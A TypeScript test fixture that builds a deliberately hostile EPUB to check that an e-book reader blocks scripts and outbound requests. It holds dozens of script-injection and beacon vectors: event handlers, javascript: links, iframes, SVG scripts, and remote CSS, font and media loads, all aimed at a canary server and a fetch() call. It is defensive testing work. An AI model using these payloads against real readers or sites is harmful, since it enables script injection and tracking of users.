import { strToU8, zipSync } from "fflate";

/** What any of the book's tricks would leave behind on the page, were it run. */
export const mark = "__stolen";

/**
 * A book that tries everything a file could try in a browser: to run, to call out, to lead away. `canary` is a server
 * that must never hear of it. Its text says "Rien ne s’est passé" all the same.
 */
export function hostileEpub(canary: string) {
  const steal = `top.${mark}=1;parent.${mark}=1;window.${mark}=1;fetch('${canary}/fetch')`;
  const head = `
<meta http-equiv="refresh" content="0;url=${canary}/refresh"/>
<base href="${canary}/base/"/>
<link rel="preconnect" href="${canary}"/><link rel="dns-prefetch" href="${canary}"/>
<link rel="prefetch" href="${canary}/prefetch"/><link rel="stylesheet" href="${canary}/remote.css"/>
<link rel="stylesheet" href="style.css"/>
<script>${steal}</script><script src="evil.js"></script><script type="module" src="${canary}/module.js"></script>
<style>@import url("${canary}/import.css"); body { background: url("${canary}/body.png") }
@font-face { font-family: x; src: url("${canary}/font.woff2") } p { font-family: x }</style>`;
  const body = `
<h1 id="start">Rien ne s’est passé</h1>
<p onclick="${steal}" onmouseover="${steal}">Un paragraphe.</p>
<p><a id="script-link" href="javascript:${steal}">Un lien</a> <a href="${canary}/out" target="_top">Dehors</a></p>
<img src="${canary}/beacon.png" onerror="${steal}" alt="a"/><img src="missing.png" onerror="${steal}" alt="b"/>
<img srcset="${canary}/set.png 2x" src="picture.svg" alt="c"/>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${steal}">
<script>${steal}</script><image xlink:href="${canary}/image.png"/><use xlink:href="${canary}/use.svg#a"/>
<a xlink:href="javascript:${steal}"><animate attributeName="xlink:href" to="javascript:${steal}"/><text y="20">svg</text></a>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:${steal}"></iframe></body></foreignObject></svg>
<iframe src="${canary}/frame"></iframe><iframe srcdoc="&lt;script&gt;${steal}&lt;/script&gt;"></iframe>
<object data="${canary}/object"></object><embed src="${canary}/embed"/>
<form id="f" action="${canary}/form" method="post"><input name="a" value="b" autofocus="autofocus" onfocus="${steal}"/>
<button formaction="${canary}/formaction">Envoyer</button></form>
<video src="${canary}/video.mp4" poster="${canary}/poster.png" autoplay="autoplay"></video>
<audio src="${canary}/audio.mp3" autoplay="autoplay"></audio>
<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext href="javascript:${steal}">m</mtext></math>
<img name="body" src="missing.png" alt="d"/>
<p style="background:url(${canary}/style.png)">Le dernier paragraphe.</p>`;
  const page = (title: string, inner: string, more = "") =>
    `<?xml version="1.0" encoding="UTF-8"?>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops" lang="fr"><head><title>${title}</title>${more}</head><body>${inner}</body></html>`;
  return zipSync({
    mimetype: [strToU8("application/epub+zip"), { level: 0 }],
    "META-INF/container.xml": strToU8(
      `<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container" version="1.0"><rootfiles><rootfile full-path="EPUB/package.opf" media-type="application/oebps-package+xml"/></rootfiles></container>`,
    ),
    "EPUB/package.opf": strToU8(packageDocument),
    "EPUB/nav.xhtml": strToU8(
      page(
        "Sommaire",
        `<nav epub:type="toc"><ol><li><a href="one.xhtml">Premier chapitre</a></li><li><a href="javascript:${steal}">Piège</a></li></ol></nav>`,
      ),
    ),
    "EPUB/one.xhtml": strToU8(page("Un", body, head)),
    "EPUB/two.svg": strToU8(
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${steal}"><script>${steal}</script><text y="40">Un dessin</text></svg>`,
    ),
    "EPUB/style.css": strToU8(
      `@import "${canary}/sheet.css"; h1 { background: url(${canary}/h1.png); list-style: url(${canary}/list.png) }`,
    ),
    "EPUB/picture.svg": strToU8(
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${steal}"><script>${steal}</script><image href="${canary}/inner.png"/></svg>`,
    ),
    "EPUB/evil.js": strToU8(steal),
  });
}

const packageDocument = `<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="b">
<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="b">urn:hostile</dc:identifier>
<dc:title>Un livre hostile</dc:title><dc:language>fr</dc:language></metadata>
<manifest>
<item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>
<item id="one" href="one.xhtml" media-type="application/xhtml+xml" properties="scripted"/>
<item id="two" href="two.svg" media-type="image/svg+xml"/>
<item id="css" href="style.css" media-type="text/css"/>
<item id="pic" href="picture.svg" media-type="image/svg+xml"/>
<item id="js" href="evil.js" media-type="text/javascript"/>
</manifest>
<spine><itemref idref="one"/><itemref idref="two"/></spine></package>`;
